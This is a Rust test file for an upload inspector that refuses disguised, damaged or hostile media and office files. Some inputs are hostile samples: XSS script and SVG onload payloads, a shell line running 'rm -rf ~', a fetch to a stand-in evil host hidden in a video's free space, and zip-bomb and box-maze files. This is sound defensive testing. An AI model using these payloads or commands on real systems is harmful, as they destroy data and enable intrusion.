//! Real files (`tests/samples`), lies about them, and bytes that are made to hurt.

use std::path::Path;

use proptest::prelude::*;

use super::*;

/// A file of `tests/samples`; its README says how each was made.
fn sample(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/samples").join(name);
    std::fs::read(&path).unwrap_or_else(|error| panic!("{}: {error}", path.display()))
}

/// The verdict on `file`, read in exactly the ranges that are asked for; and how many bytes that took.
fn inspect(kind: MediaType, file: &[u8]) -> (Verdict, u64) {
    inspect_sparse(kind, file.len() as u64, |range| {
        file[usize::try_from(range.start).unwrap()..usize::try_from(range.end).unwrap()].to_vec()
    })
}

fn inspect_sparse(kind: MediaType, size: u64, read: impl Fn(Range<u64>) -> Vec<u8>) -> (Verdict, u64) {
    let mut inspection = Inspection::of(kind, size, size);
    let mut bytes = 0;
    for _ in 0..=MOST_READS {
        match inspection.next() {
            Step::Done(verdict) => return (verdict, bytes),
            Step::Need(range) => {
                assert!(range.start < range.end && range.end <= size, "{range:?} of {size}");
                bytes += range.end - range.start;
                inspection.feed(range.start, read(range));
            }
        }
    }
    panic!("an inspection of {kind} does not end");
}

fn fit(kind: MediaType, file: &[u8]) -> MediaFacts {
    match inspect(kind, file).0 {
        Verdict::Fit(facts) => facts,
        Verdict::Unfit(reason) => panic!("{kind}: {reason}"),
    }
}

fn unfit(kind: MediaType, file: &[u8]) -> Unfit {
    match inspect(kind, file).0 {
        Verdict::Unfit(reason) => reason,
        Verdict::Fit(facts) => panic!("{kind} is fit: {facts:?}"),
    }
}

fn lies(declared: MediaType, seems: &str) -> Unfit {
    Unfit::Lies { declared, seems: Some(seems.to_owned()) }
}

/// Every sample that is taken, under its type.
const TAKEN: [(&str, MediaType); 20] = [
    ("h264-aac.mp4", MediaType::Mp4),
    ("h264-faststart.mp4", MediaType::Mp4),
    ("h264-fragmented.mp4", MediaType::Mp4),
    ("h264-aac.mov", MediaType::Mov),
    ("h264-aac.m4v", MediaType::M4v),
    ("vp9-opus.webm", MediaType::Webm),
    ("sound.mp3", MediaType::Mp3),
    ("sound-untagged.mp3", MediaType::Mp3),
    ("sound.m4a", MediaType::M4a),
    ("sound.wav", MediaType::Wav),
    ("image.png", MediaType::Png),
    ("image.jpg", MediaType::Jpeg),
    ("image.heic", MediaType::Heic),
    ("image.webp", MediaType::Webp),
    ("lossless.webp", MediaType::Webp),
    ("plan.pdf", MediaType::Pdf),
    ("plan.docx", MediaType::Docx),
    ("slides.pptx", MediaType::Pptx),
    ("scores.xlsx", MediaType::Xlsx),
    ("h264-aac.mov", MediaType::Mp4),
];

#[test]
fn real_files_of_every_type_are_fit() {
    for (name, kind) in TAKEN {
        fit(kind, &sample(name));
    }
    fit(MediaType::Text, "Überblick\r\n\tStudent A: 3 × 4 < 5\n".as_bytes());
    fit(MediaType::Text, "\u{FEFF}notes".as_bytes());
}

#[test]
fn what_a_video_tells_of_itself_is_noted() {
    let facts = fit(MediaType::Mp4, &sample("h264-aac.mp4"));

    assert_eq!((facts.width, facts.height), (Some(64), Some(48)));
    assert_eq!((facts.video.as_deref(), facts.audio.as_deref()), (Some("H.264"), Some("AAC")));
    assert!(facts.milliseconds.is_some_and(|length| (900..1200).contains(&length)), "{facts:?}");

    let facts = fit(MediaType::Webm, &sample("vp9-opus.webm"));
    assert_eq!((facts.width, facts.height), (Some(64), Some(48)));
    assert_eq!((facts.video.as_deref(), facts.audio.as_deref()), (Some("VP9"), Some("Opus")));
    assert!(facts.milliseconds.is_some_and(|length| (900..1200).contains(&length)), "{facts:?}");
}

#[test]
fn what_a_picture_or_a_sound_tells_of_itself_is_noted() {
    for (name, kind) in [
        ("image.png", MediaType::Png),
        ("image.jpg", MediaType::Jpeg),
        ("image.webp", MediaType::Webp),
        ("lossless.webp", MediaType::Webp),
    ] {
        let facts = fit(kind, &sample(name));
        assert_eq!((facts.width, facts.height), (Some(64), Some(48)), "{name}");
    }
    assert_eq!(fit(MediaType::Wav, &sample("sound.wav")).milliseconds, Some(200));
}

#[test]
fn an_iphones_hevc_is_named_with_what_to_do() {
    for (name, kind) in [("hevc.mov", MediaType::Mov), ("hevc-hev1.mp4", MediaType::Mp4)] {
        let reason = unfit(kind, &sample(name));
        assert_eq!(reason, Unfit::Hevc, "{name}");
        assert!(reason.to_string().contains("Most Compatible"));
    }
}

#[test]
fn codings_that_browsers_do_not_play_are_named() {
    for (name, kind, codec) in [
        ("mpeg4.mp4", MediaType::Mp4, "MPEG-4 Part 2"),
        ("prores.mov", MediaType::Mov, "Apple ProRes"),
        ("mjpeg.mov", MediaType::Mov, "Motion JPEG"),
        ("h264-422.mp4", MediaType::Mp4, "H.264 with 10-bit or 4:2:2 colour"),
        ("h264-ac3.mp4", MediaType::Mp4, "Dolby Digital sound"),
        ("lossless.m4a", MediaType::M4a, "Apple Lossless sound"),
        ("adpcm.wav", MediaType::Wav, "WAV format 2"),
    ] {
        assert_eq!(unfit(kind, &sample(name)), Unfit::Codec { codec: codec.to_owned() }, "{name}");
    }
}

#[test]
fn a_file_that_lies_about_its_type_is_refused_with_what_it_looks_like() {
    for (name, declared, seems) in [
        ("image.png", MediaType::Jpeg, "image/png"),
        ("image.gif", MediaType::Png, "image/gif"),
        ("image.heic", MediaType::Mp4, "image/heif"),
        ("h264.mkv", MediaType::Webm, "video/x-matroska"),
        ("h264-aac.mp4", MediaType::Heic, "video/mp4"),
        ("h264-aac.mp4", MediaType::Pdf, "video/mp4"),
        ("sound.ogg", MediaType::Mp3, "audio/opus"),
        ("plan.docx", MediaType::Pptx, MediaType::Docx.name()),
        ("archive.zip", MediaType::Docx, "application/zip"),
        ("plan.pdf", MediaType::Text, "application/pdf"),
    ] {
        assert_eq!(unfit(declared, &sample(name)), lies(declared, seems), "{name} as {declared}");
    }
    assert_eq!(unfit(MediaType::Mp4, &sample("sound.m4a")), Unfit::NoPicture);
    assert_eq!(unfit(MediaType::M4a, &sample("hevc.mov")), Unfit::NoSound);
}

#[test]
fn pages_and_programs_are_no_evidence_under_any_name() {
    let page = b"<!DOCTYPE html><html><script>alert(1)</script></html>".repeat(20);
    let drawing = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
    let program = [&b"MZ\x90\0\x03\0\0\0"[..], &[0; 600]].concat();
    for kind in MediaType::ALL {
        for file in [&page[..], drawing, &program, b"#!/bin/sh\nrm -rf ~\0", b"\0", b"<"] {
            if kind != MediaType::Text || file != b"<" {
                unfit(kind, file);
            }
        }
    }
}

#[test]
fn a_text_may_speak_of_tags_but_not_be_a_page() {
    fit(MediaType::Text, b"The <b>bold</b> tag and <script> are today's topic.");
    fit(MediaType::Text, b"x<html>");
    for page in [
        "<html>",
        " \n<HTML >",
        "\u{FEFF}<script>",
        "<!-- -->",
        "<?php",
        "<svg onload=x>",
        "<a href=x>",
        "<!DOCTYPE HTML>",
    ] {
        let reason = unfit(MediaType::Text, page.as_bytes());
        assert!(matches!(reason, Unfit::Lies { .. }), "{page}: {reason:?}");
    }
}

#[test]
fn a_text_is_utf8_without_controls() {
    for bytes in [&b"caf\xE9"[..], b"\xFF\xFEh\0i\0", b"a\0b", b"\x1B[2Jx", "a\u{80}".as_bytes()] {
        assert_eq!(unfit(MediaType::Text, bytes), Unfit::NotText, "{bytes:?}");
    }
}

#[test]
fn nothing_hides_at_the_ends_of_a_file() {
    let page = b"<html ><script >fetch('//evil.example')</script>";
    let archive = sample("archive.zip");
    for (name, kind) in TAKEN {
        let file = sample(name);
        unfit(kind, &[&file[..], page].concat());
        unfit(kind, &[&file[..], &archive].concat());
        unfit(kind, &[&page[..], &file].concat());
    }
}

#[test]
fn a_page_in_a_videos_free_space_is_found() {
    let video = sample("h264-aac.mp4");
    let ftyp = usize::try_from(u32::from_be_bytes(video[..4].try_into().unwrap())).unwrap();
    let page = b"\0\0\0\x20free<html><script>alert(1)//";
    assert_eq!(page.len(), 0x20);

    let polyglot = [&video[..ftyp], page, &video[ftyp..]].concat();
    assert_eq!(unfit(MediaType::Mp4, &polyglot), Unfit::Markup);
}

#[test]
fn macros_and_passwords_are_named() {
    assert_eq!(unfit(MediaType::Docx, &sample("macros.docx")), Unfit::Macros);
    let old = [&b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"[..], &[0; 504]].concat();
    assert_eq!(unfit(MediaType::Xlsx, &old), Unfit::Locked);
}

#[test]
fn a_document_that_unpacks_to_much_more_is_refused() {
    let mut file = sample("plan.docx");
    let directory = file.windows(4).position(|window| window == b"PK\x01\x02").unwrap();
    file[directory + 24..directory + 28].copy_from_slice(&u32::MAX.to_le_bytes());

    assert_eq!(unfit(MediaType::Docx, &file), Unfit::Swells);
}

#[test]
fn a_file_without_its_end_is_cut_short() {
    for name in [
        "h264-aac.mp4",
        "h264-faststart.mp4",
        "h264-aac.mov",
        "image.png",
        "image.webp",
        "plan.pdf",
        "plan.docx",
        "sound.wav",
    ] {
        let kind = TAKEN.iter().find(|(taken, _)| *taken == name).unwrap().1;
        let file = sample(name);
        assert_eq!(unfit(kind, &file[..file.len() - file.len() / 3]), Unfit::CutShort, "{name}");
    }
}

#[test]
fn another_size_than_announced_is_refused() {
    let inspection = Inspection::of(MediaType::Text, 5, 6);
    assert_eq!(inspection.next(), Step::Done(Verdict::Unfit(Unfit::WrongSize { announced: 5, found: 6 })));
}

/// A film of 10 GiB whose index stands behind its pictures: what is read stays small.
#[test]
fn the_index_at_the_end_of_ten_gibibytes_is_found_in_a_few_readings() {
    let file = sample("h264-aac.mp4");
    let moov = file.windows(4).position(|window| window == b"moov").unwrap() - 4;
    let size = crate::artifact::LARGEST;
    let index = size - (file.len() - moov) as u64;
    let ftyp = usize::try_from(u32::from_be_bytes(file[..4].try_into().unwrap())).unwrap();
    let mut head = file[..ftyp].to_vec();
    head.extend([&1_u32.to_be_bytes()[..], b"mdat", &(index - ftyp as u64).to_be_bytes()].concat());

    let byte_at = |offset: u64| match usize::try_from(offset).unwrap() {
        early if early < head.len() => head[early],
        late if offset >= index => file[moov + late - usize::try_from(index).unwrap()],
        _ => 0,
    };
    let (verdict, bytes) = inspect_sparse(MediaType::Mp4, size, |range| range.map(byte_at).collect());

    assert!(matches!(verdict, Verdict::Fit(_)), "{verdict:?}");
    assert!(bytes < 512 * 1024, "{bytes}");
}

#[test]
fn a_maze_of_boxes_is_left_unread() {
    let boxes = b"\0\0\0\x08free".repeat(4000);
    let maze = [&b"\0\0\0\x10ftypisom\0\0\0\0"[..], &boxes].concat();
    assert_eq!(unfit(MediaType::Mp4, &maze), Unfit::TooInvolved);

    // Boxes so far apart that each takes a reading of its own.
    let far = inspect_sparse(MediaType::Mp4, crate::artifact::LARGEST, |range| {
        let header = b"\0\0\0\x10ftypisom\0\0\0\0\0\x40\0\0free\0\0\0\0\0\0\0\0";
        range
            .map(|offset| match offset {
                0..32 => header[usize::try_from(offset).unwrap()],
                _ => header[16 + usize::try_from((offset - 16) % 0x0040_0000).unwrap().min(15)],
            })
            .collect()
    });
    assert_eq!(far.0, Verdict::Unfit(Unfit::TooInvolved));
    assert!(far.1 <= MOST_BYTES + 1024 * 1024);
}

#[test]
fn every_reason_says_what_to_do() {
    let reasons = [
        lies(MediaType::Mp4, "image/png"),
        Unfit::Lies { declared: MediaType::Mp4, seems: None },
        Unfit::WrongSize { announced: 1, found: 2 },
        Unfit::Damaged { declared: MediaType::Webm },
        Unfit::Codec { codec: "Apple ProRes".to_owned() },
        Unfit::CutShort,
        Unfit::Hevc,
        Unfit::NoPicture,
        Unfit::NoSound,
        Unfit::Markup,
        Unfit::Appended,
        Unfit::Macros,
        Unfit::Locked,
        Unfit::Swells,
        Unfit::NotText,
        Unfit::TooInvolved,
    ];
    for reason in reasons {
        let text = reason.to_string();
        assert!(["upload", "Upload", "Choose"].iter().any(|verb| text.contains(verb)), "{text}");
        assert!(text.ends_with('.') && !text.contains("  "), "{text}");
        let json = serde_json::to_value(&reason).unwrap();
        assert_eq!(json["is"], reason.name());
        assert_eq!(serde_json::from_value::<Unfit>(json).unwrap(), reason);
    }
}

fn any_kind() -> impl Strategy<Value = MediaType> {
    prop::sample::select(MediaType::ALL.to_vec())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn random_bytes_end_in_a_verdict(kind in any_kind(), file in prop::collection::vec(any::<u8>(), 1..2048)) {
        inspect(kind, &file);
    }

    #[test]
    fn real_files_with_random_damage_end_in_a_verdict(
        which in 0..TAKEN.len(),
        damage in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..24),
        cut in any::<prop::sample::Index>(),
        cuts in any::<bool>(),
    ) {
        let (name, kind) = TAKEN[which];
        let mut file = sample(name);
        for (place, byte) in damage {
            let place = place.index(file.len());
            file[place] = byte;
        }
        if cuts {
            file.truncate(cut.index(file.len()) + 1);
        }
        inspect(kind, &file);
    }

    #[test]
    fn lengths_of_any_size_end_in_a_verdict(which in 0..TAKEN.len(), place in any::<prop::sample::Index>(), length in any::<u64>()) {
        let (name, kind) = TAKEN[which];
        let mut file = sample(name);
        let place = place.index(file.len().saturating_sub(8).max(1));
        let end = (place + 8).min(file.len());
        file[place..end].copy_from_slice(&length.to_be_bytes()[..end - place]);
        inspect(kind, &file);
    }
}
